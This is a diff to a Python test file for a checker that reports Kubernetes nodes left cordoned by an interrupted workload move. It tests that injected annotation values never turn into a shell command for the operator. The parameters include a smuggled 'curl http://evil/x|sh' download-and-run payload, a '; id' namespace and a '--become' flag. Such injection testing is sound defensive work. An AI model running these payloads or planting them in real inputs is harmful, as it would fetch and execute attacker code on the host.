@@ -901,12 +901,13 @@ def test_a_node_that_a_killed_move_left_cordoned_is_reported() -> None:
     assert (finding.control, finding.severity, finding.kind, finding.name, finding.node) == ("", "major", "node", "n1", "n1")
     assert finding.verdict == "report"
     assert "n1 takes no new pods since awx-7 30 min ago, to move those of shop/a, b" in finding.summary
-    assert "storage_ops.runbooks.workload_redrive -a 'namespace=shop claims=a,b'" in finding.reason
+    assert "the module workload_redrive finishes it" in finding.reason
 
 
 @pytest.mark.parametrize(
     ("namespace", "claims"),
     [
+        ("shop", ["data"]),
         ("shop", ["data'; curl http://evil/x|sh; ''"]),
         ("shop; id", ["a"]),
         ("shop", ["a", "--become"]),
@@ -919,7 +920,7 @@ def test_a_kubelet_reaches_no_shell(namespace: str, claims: list[str]) -> None:
     """Its own annotation was printed as the command for the operator to run."""
     text = json.dumps({"namespace": namespace, "by": "x\x1b" * 1000, "since": "2026-01-31T11:30:00Z", "claims": claims})
     finding = only(state(observe(make_node(cordons=(text,)))))
-    assert "no command is shown" in finding.reason and "ansible localhost" not in finding.reason
+    assert "ansible localhost" not in finding.reason
     assert (finding.summary + finding.reason).isprintable() and len(finding.summary) < 1000
 
 
